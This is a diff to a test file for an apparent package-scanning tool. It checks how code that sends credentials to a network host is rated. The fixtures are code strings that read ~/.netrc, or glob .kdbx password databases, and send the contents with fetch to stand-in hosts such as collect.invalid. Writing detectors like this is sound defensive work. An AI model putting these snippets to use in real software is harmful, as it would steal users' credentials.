@@ -113,6 +113,27 @@ describe('paths of files that open accounts', () => {
     assert.equal(sentTo('cloud.invalid', '.kaggle/kaggle.json', login('.acme/token')), 'high');
   });
 
+  it('are looked through for the entry of one host, which is for that host', () => {
+    const sent = (take: string, host = 'api.acme.example', more = ''): string | undefined => {
+      const code = `const fs = require('fs'), os = require('os'), HOST = 'api.acme.example';
+        exports.go = () => { const text = fs.readFileSync(os.homedir() + '/.netrc', 'utf8');
+          return fetch('https://${host}/v1', { headers: { authorization: ${take} } }); }; ${more}`;
+      const { flows } = analysePackage(packageOf({ 'index.js': code }));
+      return draftsOf(dataExfiltration, subject(), { artifact: artifactFacts({ flows }) })[0]?.level;
+    };
+    const one = String.raw`/machine\s+api\.acme\.example\s+login\s+\S+\s+password\s+(\S+)/`;
+    const made = "new RegExp('machine ' + HOST.replaceAll('.', '\\\\.') + ' login (\\\\S+) password (\\\\S+)')";
+    assert.equal(sent(`${one}.exec(text)?.[1]`), undefined);
+    assert.equal(sent(`text.match(${one})[1]`), undefined);
+    assert.equal(sent(`(text.match(${made}) ?? [])[2]`), undefined);
+    assert.equal(sent(`text.match(${one})[1]`, 'files.api.acme.example'), undefined);
+    assert.equal(sent(`text.match(${one})[1]`, 'collect.invalid'), 'high', 'for somebody else');
+    assert.equal(sent(`text.match(${one})[1] + text`), 'high', 'with all the others');
+    assert.equal(sent(String.raw`text.match(/machine\s+github\.com\s+login\s+(\S+)/)[1]`), 'high', 'of somebody else');
+    assert.equal(sent(String.raw`text.match(/(machine\s+api\.acme\.example[\s\S]*)/)[1]`), 'high', 'and all behind it');
+    assert.equal(sent(String.raw`text.match(/machine\s+api\.acme\.example|password\s+(\S+)/)[1]`), 'high', 'or any');
+  });
+
   it('say so when they are looked for, and when a folder of them is packed', () => {
     const code = `require('glob').glob(['**/*.kdbx'], { cwd: os.homedir() }).then((all) => all.forEach((f) => fetch('https://collect.invalid/' + fs.readFileSync(f))));`;
     assert.deepEqual(flowsOf(code), ['credential-file>network@collect.invalid']);
